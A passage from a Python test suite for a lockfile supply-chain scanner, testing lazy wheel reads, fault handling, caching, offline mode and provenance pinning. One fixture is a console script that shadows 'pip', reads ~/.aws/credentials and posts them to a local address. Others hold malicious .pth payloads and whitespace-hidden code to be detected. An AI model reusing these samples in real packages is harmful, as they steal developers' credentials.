    os.remove(os.path.join(srv.root, "files", b.filename))
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete"})
    if len(srv.requested("/files/" + b.filename)) != 1:
        raise Fail("a 404 was retried")


@case
def case_size_cap(t):
    """A file over --max-file-size is incomplete, never truncated or passed."""
    srv = t.server()
    import random
    b = L.sdist(BENIGN, "1.0", extra={"blob.bin": random.Random(2).randbytes(20000)})
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--max-file-size", "8k", index_url=srv.index_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"verdict": "incomplete", "sha256": None}],
                                "errors": [{"package": BENIGN, "message": ANY}]})
    if "larger than 8192 bytes" not in res.json["errors"][0]["message"]:
        raise Fail("the message should name the cap\n" + res.describe())


def _lazy_setup(t, files_conf="", pth=None, purelib=False):
    srv = t.server(files_conf=files_conf)
    w = L.big_wheel("lazy-pkg", "1.0", pth=pth, purelib=purelib)
    srv.add("lazy-pkg", "1.0", [w])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
    return srv, w, repo


def _file_bytes(srv, w):
    return sum(r.sent for r in srv.requested("/files/" + w.filename))


@case
def case_lazy_wheel_blocked(t):
    """A 1.3 MB platform wheel is read by range requests (tail, members),
    a small fraction of its bytes, and its malicious .pth still blocks."""
    srv, w, repo = _lazy_setup(t, pth={"lazy_init.pth": L.MALICIOUS_PTH})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"package": "lazy-pkg", "file": w.filename, "read": "lazy",
                       "sha256": w.sha256, "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth",
                             severity=OneOf(*BLOCKING))]})
    got = srv.requested("/files/" + w.filename)
    if not got or any(r.status != 206 or not r.range for r in got):
        raise Fail("expected only range requests: %r" % got)
    sent = _file_bytes(srv, w)
    if sent * 5 > len(w.data):
        raise Fail("lazy read took %d of %d bytes" % (sent, len(w.data)))


@case
def case_lazy_wheel_big_directory(t):
    """A central directory larger than the 64 KiB tail is fetched by its
    own range (round 2); the .pth still blocks."""
    import random
    srv = t.server()
    extra = {"lazy_pkg/mod_%04d_%s.py" % (i, "x" * 60): "X = %d\n" % i for i in range(1500)}
    extra["lazy_pkg/_blob.dat"] = random.Random(3).randbytes(1_300_000)
    w = L.wheel("lazy-pkg", "1.0", pth={"lazy_init.pth": L.MALICIOUS_PTH}, extra=extra,
                purelib=False)
    srv.add("lazy-pkg", "1.0", [w])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "artifacts": [{"read": "lazy", "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth")]},
        no_findings=[{"rule": "wheel.record-mismatch"}])
    ranges = [r.range for r in srv.requested("/files/")]
    if not any(rg.startswith("bytes=") and not rg.startswith("bytes=-") for rg in ranges) \
            or len(ranges) < 3:
        raise Fail("expected tail, directory and member ranges: %r" % ranges)


@case
def case_lazy_entry_point_module(t):
    """A lazily read wheel whose console script shadows `pip`: the module
    entry_points.txt names is read too (round 4), so the shadow is judged
    with what the module does, as in a whole read."""
    import random
    cli = ("import os, urllib.request\n"
           "def main():\n"
           "    data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
           "    urllib.request.urlopen('http://127.0.0.1:9/c', data.encode())\n")
    extra = {"lazy_pkg/cli.py": cli,
             "lazy_pkg/_blob.dat": random.Random(4).randbytes(1_300_000),
             "lazy_pkg-1.0.dist-info/entry_points.txt":
                 "[console_scripts]\npip = lazy_pkg.cli:main\n"}
    srv = t.server()
    w = L.wheel("lazy-pkg", "1.0", extra=extra, purelib=False)
    srv.add("lazy-pkg", "1.0", [w])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
    lazy = t.check(repo, index_url=srv.index_url)
    full = t.check(repo, "--full-download", index_url=srv.index_url)
    want = finding("wheel.console-script-shadow", severity="high")
    t.expect(lazy, rc=1, subset={"artifacts": [{"read": "lazy", "verdict": "block"}],
                                 "findings": [want]})
    t.expect(full, rc=1, subset={"artifacts": [{"read": "full"}], "findings": [want]})
    if not any(f["path"] == "lazy_pkg/cli.py" for f in lazy.json["findings"]):
        raise Fail("the entry point's module was not scanned\n" + lazy.describe())


@case
def case_lazy_wheel_benign(t):
    """A benign lazily read wheel passes with no RECORD complaint."""
    srv, w, repo = _lazy_setup(t)
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"read": "lazy", "verdict": "pass"}]},
             no_findings=[{"rule": "wheel.record-mismatch"}])


@case
def case_lazy_and_full_mixed(t):
    """A lazy platform wheel and a malicious sdist in one change: the wheel
    is read by range, the sdist whole (in the same first batch), and the
    sdist blocks."""
    srv = t.server()
    w = L.big_wheel("lazy-pkg", "1.0")
    m = L.demo_sdist()
    srv.add("lazy-pkg", "1.0", [w])
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": _pins((w, "lazy-pkg", "1.0"), (m, "demo-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "artifacts": [
        {"package": "lazy-pkg", "read": "lazy", "verdict": "pass"},
        {"package": "demo-pkg", "read": "full", "verdict": "block", "sha256": m.sha256}]})


@case
def case_lazy_fallback_no_ranges(t):
    """nginx with max_ranges 0 ignores ranges: lockgate stops the 200 and
    downloads the wheel in full; still blocked."""
    srv, w, repo = _lazy_setup(t, files_conf="max_ranges 0;",
                               pth={"lazy_init.pth": L.MALICIOUS_PTH})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"file": w.filename, "read": "full", "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", path="lazy_init.pth")]})
    if not any(r.status == 200 and not r.range for r in srv.requested("/files/")):
        raise Fail("expected a whole download after the ignored range")


@case
def case_lazy_purelib_is_full(t):
    """A Root-Is-Purelib wheel is read in full (wheel.native-in-purelib
    needs every member's first bytes)."""
    srv, w, repo = _lazy_setup(t, purelib=True)
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"artifacts": [{"read": "full", "sha256": w.sha256}]})


@case
def case_small_wheel_one_request(t):
    """A wheel smaller than the 64 KiB tail: the one range request got all
    of it, so it is hashed and verified like a whole download."""
    w, res = _wheel_case(t, "pthdemo", "1.0", {"pthdemo_init.pth": L.MALICIOUS_PTH})
    t.expect(res, rc=1, subset={"artifacts": [{"read": "full", "sha256": w.sha256,
                                               "verdict": "block"}]})


@case
def case_small_wheel_swapped(t):
    """Lock and index agree, the server sends another small wheel: the
    bytes read are hashed, so hash.mismatch blocks."""
    srv = t.server()
    w = L.wheel("swapwheel", "1.0")
    other = L.wheel("swapwheel", "1.0", module="# swapped\n").data
    srv.add("swapwheel", "1.0", [w], serve_override={w.filename: other})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(w, "swapwheel", "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("hash.mismatch", severity="critical", file=w.filename)]})


@case
def case_full_download_flag(t):
    """--full-download: no range request at all."""
    srv, w, repo = _lazy_setup(t, pth={"lazy_init.pth": L.MALICIOUS_PTH})
    res = t.check(repo, "--full-download", index_url=srv.index_url)
    t.expect(res, rc=1, subset={"artifacts": [{"read": "full", "verdict": "block"}]})
    if any(r.range for r in srv.requested("/files/")):
        raise Fail("--full-download sent a Range request")


@case
def case_cache_stats_clean(t):
    """check fills the cache; a second check reads it (no file request);
    cache stats counts it; clean --older-than keeps it; clean empties it."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    cache = t.mk("shared-cache")
    t.expect(t.check(repo, "--cache-dir", cache, index_url=srv.index_url), rc=0)
    before = len(srv.requested("/files/"))
    t.expect(t.check(repo, "--cache-dir", cache, index_url=srv.index_url), rc=0)
    if len(srv.requested("/files/")) != before:
        raise Fail("the second run downloaded the cached file again")
    res = t.run("cache", "stats", "--cache-dir", cache)
    t.expect(res, rc=0)
    if "sha256   1 entries, %d bytes" % len(b.data) not in res.stdout:
        raise Fail("stats\n" + res.describe())
    res = t.run("cache", "clean", "--older-than", "1", "--cache-dir", cache)
    t.expect(res, rc=0)
    if "sha256   0 entries" not in res.stdout:
        raise Fail("clean --older-than 1 removed a fresh entry\n" + res.describe())
    res = t.run("cache", "clean", "--cache-dir", cache)
    t.expect(res, rc=0)
    if "sha256   1 entries" not in res.stdout:
        raise Fail("clean\n" + res.describe())
    res = t.run("cache", "stats", "--cache-dir", cache)
    if "total    0 entries" not in res.stdout:
        raise Fail("cache not empty after clean\n" + res.describe())
    for bad in (["cache"], ["cache", "frobnicate"], ["cache", "clean", "--older-than", "x"]):
        t.expect(t.run(*bad, "--cache-dir", cache), rc=3, note=" ".join(bad))


def _fault_case(t, plan):
    """benign-pkg's sdist served by the fault server with plan."""
    srv = t.server()
    b = benign()
    fs = t.fault_server()
    fs.route("/f/" + b.filename, b.data, plan)
    srv.add(BENIGN, "1.0", [b], file_urls={b.filename: fs.url("/f/" + b.filename)})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    return b, fs, t.check(repo, index_url=srv.index_url)


@case
def case_fault_cut_then_ok(t):
    """A connection cut mid-body is retried; the second try passes."""
    b, fs, res = _fault_case(t, ["cut", "ok"])
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256}]})
    if fs.hits("/f/" + b.filename) != 2:
        raise Fail("expected 2 requests, got %d" % fs.hits("/f/" + b.filename))


@case
def case_fault_cut_always(t):
    """A connection cut on every try: incomplete, never a partial scan."""
    b, fs, res = _fault_case(t, ["cut"])
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"verdict": "incomplete", "sha256": None}]})


@case
def case_fault_429_http_date(t):
    """429 with Retry-After as an HTTP date: waited for, then 200."""
    b, fs, res = _fault_case(t, ["429-date", "ok"])
    t.expect(res, rc=0, subset={"verdict": "pass"})
    if res.secs < 0.9:
        raise Fail("Retry-After (HTTP date, ~2 s) was not waited for: %.2fs" % res.secs)


@case
def case_fault_redirect_loop(t):
    """A redirect loop ends at the redirect cap: incomplete."""
    b, fs, res = _fault_case(t, ["redirect"])
    t.expect(res, rc=2, subset={"verdict": "incomplete"})
    if fs.hits("/f/" + b.filename) > 10:
        raise Fail("followed %d redirects" % fs.hits("/f/" + b.filename))


@case
def case_fault_huge_length(t):
    """A 2 GB Content-Length is refused before any body: incomplete, fast."""
    b, fs, res = _fault_case(t, ["huge"])
    t.expect(res, rc=2, subset={"verdict": "incomplete"})
    if "larger than" not in res.json["errors"][0]["message"]:
        raise Fail("the message should name the cap\n" + res.describe())


@case
def case_fault_500_then_ok(t):
    """500 once, then the file: retried, and the run passes."""
    b, fs, res = _fault_case(t, ["500", "ok"])
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                "artifacts": [{"sha256": b.sha256, "verdict": "pass"}]})
    if fs.hits("/f/" + b.filename) != 2:
        raise Fail("expected 2 requests, got %d" % fs.hits("/f/" + b.filename))


@case
def case_fault_trickle_timeout(t):
    """A few bytes, then a stall past the low-speed time (2 s here, via
    LOCKGATE_LOW_SPEED_TIME): each try is a timeout, retried, then the run
    is incomplete (exit 2) and says timeout."""
    srv = t.server()
    b = benign()
    fs = t.fault_server()
    fs.route("/f/" + b.filename, b.data, ["trickle"])
    srv.add(BENIGN, "1.0", [b], file_urls={b.filename: fs.url("/f/" + b.filename)})
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url, env={"LOCKGATE_LOW_SPEED_TIME": "2"})
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"verdict": "incomplete", "sha256": None}],
                                "errors": [{"package": BENIGN, "message": ANY}]})
    msg = res.json["errors"][0]["message"]
    if "timeout" not in msg or "tries" not in msg:
        raise Fail("the message should say timeout and the tries: %r" % msg)
    if res.secs > 50:  # libcurl's speed window adds ~5 s a try; 30 s would be > 120
        raise Fail("LOCKGATE_LOW_SPEED_TIME=2 did not shorten the stall: %.1fs" % res.secs)
    if fs.hits("/f/" + b.filename) != 4:
        raise Fail("expected 1 try + 3 retries, got %d" % fs.hits("/f/" + b.filename))
    bad = t.check(repo, index_url=srv.index_url, env={"LOCKGATE_LOW_SPEED_TIME": "x"})
    t.expect(bad, rc=3)


def _offline_setup(t):
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    return srv, b, repo


@case
def case_offline_warm_cache(t):
    """check --offline after a normal run with the same cache: passes with
    no request at all (nginx logs none); the skipped OSV query and
    provenance are each one offline.not-checked note."""
    srv, b, repo = _offline_setup(t)
    cache = t.mk("offline-cache")
    for index in (srv.simple_url, srv.index_url):
        t.expect(t.check(repo, index_url=index, cache=cache), rc=0,
                 subset={"verdict": "pass", "errors": []},
                 no_findings=[{"rule": "offline.not-checked"}])
        before = len(srv.requests())
        res = t.check(repo, "--offline", "--osv-url", "https://203.0.113.7", index_url=index,
                      cache=cache)
        t.expect(res, rc=0, subset={"verdict": "pass", "errors": [],
                                    "artifacts": [{"sha256": b.sha256, "verdict": "pass"}]},
                 note=index)
        if len(srv.requests()) != before:
            raise Fail("--offline sent requests: %r" % srv.requests()[before:])
        notes = [f["message"] for f in res.json["findings"]
                 if f["rule"] == "offline.not-checked"]
        if len(notes) != 2 or not any("OSV" in n for n in notes) or \
                not any("provenance" in n for n in notes):
            raise Fail("expected one OSV and one provenance note\n" + res.describe())
    # Nothing skipped (no OSV API, no provenance asked for): no note.
    res = t.check(repo, "--offline", "--no-osv", "--no-provenance", index_url=srv.simple_url,
                  cache=cache)
    t.expect(res, rc=0, subset={"verdict": "pass", "errors": []},
             no_findings=[{"rule": "offline.not-checked"}])
    # Provenance the configuration requires cannot be checked offline.
    before = len(srv.requests())
    res = t.check(repo, "--offline", "--require-provenance", BENIGN, index_url=srv.simple_url,
                  cache=cache)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": BENIGN, "message": ANY}]})
    if "--offline" not in res.json["errors"][0]["message"]:
        raise Fail("the error should say --offline\n" + res.describe())
    if len(srv.requests()) != before:
        raise Fail("--offline sent requests: %r" % srv.requests()[before:])
    # So is one whose publisher .lockgate/publishers.json pins.
    pinned = t.repo({"README": "x\n", PIN_FILE: _pin_file()},
                    {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    res = t.check(pinned, "--offline", index_url=srv.simple_url, cache=cache)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": BENIGN, "message": ANY}]})
    if len(srv.requests()) != before:
        raise Fail("--offline sent requests: %r" % srv.requests()[before:])


@case
def case_offline_cold_cache(t):
    """--offline with nothing cached: incomplete (exit 2) naming the index
    document; with the document cached but not the file: incomplete naming
    the file. No request either time."""
    srv, b, repo = _offline_setup(t)
    res = t.check(repo, "--offline", index_url=srv.simple_url)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "errors": [{"package": BENIGN, "message": ANY}]})
    msg = res.json["errors"][0]["message"]
    if "/simple/benign-pkg/" not in msg or "--offline" not in msg:
        raise Fail("the error should name the missing document: %r" % msg)
    t.expect_no_requests(srv)
    cache = t.mk("offline-cache")
    t.expect(t.check(repo, index_url=srv.simple_url, cache=cache), rc=0)
    shutil.rmtree(os.path.join(cache, "sha256"))
    before = len(srv.requests())
    res = t.check(repo, "--offline", index_url=srv.simple_url, cache=cache)
    t.expect(res, rc=2, subset={"verdict": "incomplete",
                                "artifacts": [{"verdict": "incomplete"}],
                                "errors": [{"package": BENIGN, "message": ANY}]})
    msg = res.json["errors"][0]["message"]
    if b.filename not in msg or "download cache" not in msg:
        raise Fail("the error should name the missing file: %r" % msg)
    if len(srv.requests()) != before:
        raise Fail("--offline sent requests: %r" % srv.requests()[before:])


def _run_with_tty_stderr(t, argv, env=None, fd="stderr"):
    """Runs lockgate with stderr (or stdout) on a pseudo-terminal; returns
    (rc, what the terminal got)."""
    import pty
    import select
    master, slave = pty.openpty()
    p = subprocess.Popen([t.bin] + argv, env=t.env(env), stdin=subprocess.DEVNULL,
                         stdout=slave if fd == "stdout" else subprocess.PIPE,
                         stderr=slave if fd == "stderr" else subprocess.PIPE)
    os.close(slave)
    chunks = []
    while True:
        r, _, _ = select.select([master], [], [], 0.1)
        if r:
            try:
                data = os.read(master, 65536)
            except OSError:
                data = b""
            if not data and p.poll() is not None:
                break
            chunks.append(data)
        elif p.poll() is not None:
            break
    p.communicate(timeout=RUN_TIMEOUT)
    os.close(master)
    return p.returncode, b"".join(chunks).decode(errors="replace")


@case
def case_progress_tty(t):
    """On a terminal, check draws a progress line on stderr (files, bytes,
    rate); --quiet silences it; NO_COLOR drops the bold."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    def argv():  # a fresh cache each time, so there is something to download
        return t.check_argv(repo, index_url=srv.index_url)
    rc, err = _run_with_tty_stderr(t, argv())
    if rc != 0 or "downloading 1/1 files" not in err or "/s" not in err \
            or "\033[1m" not in err:
        raise Fail("expected a bold progress line, rc %d, stderr %r" % (rc, err))
    rc, err = _run_with_tty_stderr(t, argv() + ["--quiet"])
    if rc != 0 or "downloading" in err:
        raise Fail("--quiet still drew progress: %r" % err)
    rc, err = _run_with_tty_stderr(t, argv(), env={"NO_COLOR": "1"})
    if rc != 0 or "downloading" not in err or "\033[1m" in err:
        raise Fail("NO_COLOR: expected progress without bold: %r" % err)


@case
def case_quiet_not_tty(t):
    """stderr is not a terminal here: no progress line, with or without --quiet."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(b, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0)
    if "downloading" in res.stderr or "\r" in res.stderr:
        raise Fail("progress written to a non-terminal\n" + res.describe())


@case
def case_artifact_divergence(t):
    """C15: the locked wheel carries a module with a finding that the
    locked sdist of the same release lacks: high on the wheel. The same
    module in both artifacts stays a medium warning."""
    hidden = "x = 1" + " " * 200 + "; y = 2 + 3 + 4 + 5\n"
    extra = {"divpkg/_t.py": hidden}
    for in_sdist, rc in ((False, 1), (True, 0)):
        srv = t.server()
        s = L.sdist("divpkg", "1.0", extra=extra if in_sdist else None)
        w = L.wheel("divpkg", "1.0", module="from . import _t\n", extra=extra)
        srv.add("divpkg", "1.0", [s, w])
        line = "divpkg==1.0 --hash=sha256:%s --hash=sha256:%s" % (s.sha256, w.sha256)
        repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(line)})
        res = t.check(repo, index_url=srv.index_url)
        div = finding("wheel.artifact-divergence", severity="high",
                      file=w.filename, path="divpkg/_t.py", lockfile_line=1)
        if in_sdist:
            t.expect(res, rc=rc, subset={"findings": [
                finding("obf.whitespace-hiding", file=w.filename)]},
                no_findings=[{"rule": "wheel.artifact-divergence"}])
        else:
            t.expect(res, rc=rc, subset={"verdict": "block", "findings": [div]})


@case
def case_transition_takeover(t):
    """C16: an upgrade released 400 days after the one before, whose module
    gains import-time code (medium: whitespace-hidden code) that the old
    version did not have, is a high transition finding naming the gap. The
    same upgrade without the gap only warns."""
    hidden = "x = 1" + " " * 200 + "; y = 2 + 3 + 4 + 5\n"
    for gap_days, rc in ((400, 1), (30, 0)):
        srv = t.server()
        old, new = L.sdist("sleepy-lib", "1.0"), L.sdist("sleepy-lib", "1.1", module=hidden)
        later = "2026-10-06T00:00:00Z"
        first = "2025-09-01T00:00:00Z" if gap_days == 400 else "2026-09-06T00:00:00Z"
        srv.add("sleepy-lib", "1.0", [old], upload_time=first)
        srv.add("sleepy-lib", "1.1", [new], upload_time=later)
        repo = t.repo({"requirements.txt": pin(old, "sleepy-lib", "1.0") + "\n"},
                      {"requirements.txt": pin(new, "sleepy-lib", "1.1") + "\n"})
        res = t.check(repo, index_url=srv.simple_url, env={"LOCKGATE_NOW": NOW})
        c16 = {"rule": "transition.new-install-behaviour"}
        if gap_days == 400:
            t.expect(res, rc=rc, subset={"findings": [
                finding("release.dormant", package="sleepy-lib"),
                finding("transition.new-install-behaviour", severity="high",
                        package="sleepy-lib", lockfile_line=1,
                        message=Contains("import-time behaviour since 1.0"))]})
            t.expect(res, subset={"findings": [dict(c16, message=Contains("C16"))]})
        else:
            t.expect(res, rc=rc, subset={"findings": [finding("obf.whitespace-hiding")]},
                     no_findings=[c16])


@case
def case_hook_included_file(t):
    """The hooks let lockgate decide which staged files matter: a commit
    that changes only a file requirements.txt includes (base.in, which no
    name pattern knows) is checked and refused."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": "-r base.in\n",
                   "base.in": pin(b, BENIGN, "1.0") + "\n"})
    t.expect(t.run("install-hook", "--repo", repo.path), rc=0)
    env = _hook_env(t, srv)
    head = repo.git("rev-parse", "HEAD").strip()
    repo.stage({"base.in": pin(b, BENIGN, "1.0") + "\n" + pin(m, "demo-pkg", "1.0") + "\n"})
    p = _git(repo, env, "commit", "-q", "-m", "bump base.in")
    if p.returncode == 0 or repo.git("rev-parse", "HEAD").strip() != head:
        raise Fail("a blocked package added through an included file was committed:\n"
                   + p.stdout)
    if "exec.decode-exec" not in p.stdout:
        raise Fail("the refused commit did not show the finding:\n" + p.stdout)


@case
def case_config_keys_take_effect(t):
    """Configuration keys reach the stages that read them: allowed-index-hosts
    (lock policy), [provenance] require-all (provenance), cache-dir (the
    verified files land there) and jobs (accepted by the fetcher)."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    conf = ('allowed-index-hosts = ["pypi.org"]\ncache-dir = "lgcache"\njobs = 3\n'
            '[provenance]\nrequire-all = true\n')
    repo = t.repo({".lockgate.toml": conf, "README": "x\n"},
                  {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    argv = t.check_argv(repo, index_url=srv.index_url)
    i = argv.index("--cache-dir")
    del argv[i:i + 2]  # the configuration's cache-dir, not the harness's
    res = t.run(*argv)
    t.expect(res, rc=1, subset={"findings": [
        finding("policy.index-host", severity="high", package=BENIGN),
        finding("provenance.missing", severity="high", package=BENIGN)]})
    cached = [f for _, _, fs in os.walk(os.path.join(repo.path, "lgcache")) for f in fs]
    if b.sha256 not in cached:
        raise Fail("cache-dir from the configuration unused: %r\n%s" % (cached, res.describe()))


@case
def case_text_colour_tty(t):
    """The text report is coloured on a terminal only: not in a pipe, not
    with NO_COLOR, not with TERM=dumb."""
    path = os.path.join(t.tmp, "demo.tar.gz")
    with open(path, "wb") as f:
        f.write(L.demo_sdist().data)
    rc, out = _run_with_tty_stderr(t, ["scan", path], fd="stdout")
    if rc != 1 or "exec.decode-exec" not in out or "\033[" not in out:
        raise Fail("expected a coloured report on a terminal, rc %d: %r" % (rc, out[:400]))
    for env in ({"NO_COLOR": "1"}, {"TERM": "dumb"}):
        rc, out = _run_with_tty_stderr(t, ["scan", path], env=env, fd="stdout")
        if rc != 1 or "exec.decode-exec" not in out or "\033[" in out:
            raise Fail("%r: expected no colour, rc %d: %r" % (env, rc, out[:400]))
    res = t.run("scan", path)
    if res.rc != 1 or "\033[" in res.stdout:
        raise Fail("colour in a pipe\n" + res.describe())


@case
def case_two_lockfiles_one_fetch(t):
    """The same package added to two lock files (a monorepo) is one change
    for the diff and one download, with both files' lines known."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    line = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"README": "x\n"},
                  {"requirements.txt": line, "services/api/requirements.txt": line})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass"})
    if len(res.json["changes"]) != 1:
        raise Fail("expected one change for both lock files\n" + res.describe())
    got = srv.requested("/files/" + b.filename)
    if len(got) != 1:
        raise Fail("expected one download, the index saw %d\n%s" % (len(got), res.describe()))


# ---------------------------------------------------------------- main ----

# ---------------------------------------------------------- provenance ----

def _sigstore(t):
    """A throwaway Sigstore (provgen) and its trusted root file."""
    try:
        import provgen
    except ImportError:
        raise Skip("python3-cryptography not installed")
    sig = provgen.Sigstore()
    root = os.path.join(t.mk("sigstore"), "trusted_root.json")
    with open(root, "w") as f:
        f.write(sig.trusted_root())
    return provgen, sig, root


PIN_FILE = ".lockgate/publishers.json"


def _pin_file(repository="example/project", workflow="release.yml"):
    return json.dumps({"version": 1, "publishers": {BENIGN: {
        "kind": "GitHub", "repository": repository, "workflow": workflow,
        "environment": "", "since": "1.0"}}}, indent=2) + "\n"


def _prov_release(t, srv, sig, version, repository=None, tamper=False):
    """Publishes benign-pkg version, with a provenance by repository
    (None: without provenance)."""
    import provgen
    art = benign(version)
    srv.add(BENIGN, version, [art])
    if repository:
        doc = sig.attest(art.filename, art.sha256, repository=repository)
        if tamper:
            doc = provgen.tamper_signature(doc)
        srv.add_provenance(BENIGN, version, art.filename, doc)
    return art


def _prov_findings(res):
    return [f for f in res.json.get("findings") or [] if f["rule"].startswith("provenance.")]


@case
def case_provenance_verified(t):
    """A verified file shows its publisher; --update-pins records it, and
    the committed pin makes the next release's finding provenance.verified."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project")
    repo = t.repo({"README": "x\n"},
                  {"requirements.txt": pin(a1, BENIGN, "1.0") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "findings": [
        finding("provenance.new-publisher", severity="info", package=BENIGN,
                file=a1.filename)]})
    msg = _prov_findings(res)[0]["message"]
    if "example/project" not in msg or "release.yml" not in msg:
        raise Fail("the publisher is not in the message: %r" % msg)
    t.expect_requested(srv, "/integrity/benign-pkg/1.0/%s/provenance" % a1.filename)
    if os.path.exists(os.path.join(repo.path, PIN_FILE)):
        raise Fail("the pin file was written without --update-pins")
    # Text output names the repository too.
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url, fmt="text")
    if "example/project" not in res.stdout:
        raise Fail("text output lacks the publisher\n" + res.describe())
    res = t.check(repo, "--trusted-root", root, "--update-pins", index_url=srv.index_url)
    t.expect(res, rc=0)
    with open(os.path.join(repo.path, PIN_FILE)) as f:
        pins = json.load(f)
    want = {"kind": "GitHub", "repository": "example/project", "workflow": "release.yml"}
    got = pins.get("publishers", {}).get(BENIGN, {})
    if any(got.get(k) != v for k, v in want.items()):
        raise Fail("pin file: %r" % pins)
    a2 = _prov_release(t, srv, sig, "1.1", repository="example/project")
    repo.commit({PIN_FILE: json.dumps(pins, indent=2) + "\n"}, "pin")
    repo.commit({"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"}, "upgrade")
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "findings": [
        finding("provenance.verified", severity="info", version="1.1")]})
    res = t.check(repo, "--trusted-root", root, index_url=srv.simple_url)
    t.expect(res, rc=0, subset={"findings": [finding("provenance.verified", version="1.1")]})


@case
def case_provenance_publisher_changed(t):
    """The pin says example/project; the new release was built elsewhere."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project")
    a2 = _prov_release(t, srv, sig, "1.1", repository="intruder/fork")
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n", PIN_FILE: _pin_file()},
                  {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"})
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"verdict": "block", "findings": [
        finding("provenance.publisher-changed", severity="high", package=BENIGN,
                version="1.1", file=a2.filename)]})
    if "intruder/fork" not in _prov_findings(res)[0]["message"]:
        raise Fail("the new publisher is not named\n" + res.describe())
    # A trusted publisher of the configuration is accepted.
    repo.commit({".lockgate.toml": '[provenance]\ntrusted-publishers = ["github:intruder/fork"]\n'},
                "trust the fork")
    res = t.check(repo, "--trusted-root", root, index_url=srv.index_url, base="HEAD~2")
    t.expect(res, rc=0, subset={"findings": [finding("provenance.verified")]},
             no_findings=[finding("provenance.publisher-changed")])


@case
def case_provenance_dropped(t):
    """A pinned package whose new release has no provenance."""
    _, sig, root = _sigstore(t)
    srv = t.server()
    a1 = _prov_release(t, srv, sig, "1.0", repository="example/project")
    a2 = _prov_release(t, srv, sig, "1.1")
    repo = t.repo({"requirements.txt": pin(a1, BENIGN, "1.0") + "\n", PIN_FILE: _pin_file()},
                  {"requirements.txt": pin(a2, BENIGN, "1.1") + "\n"})
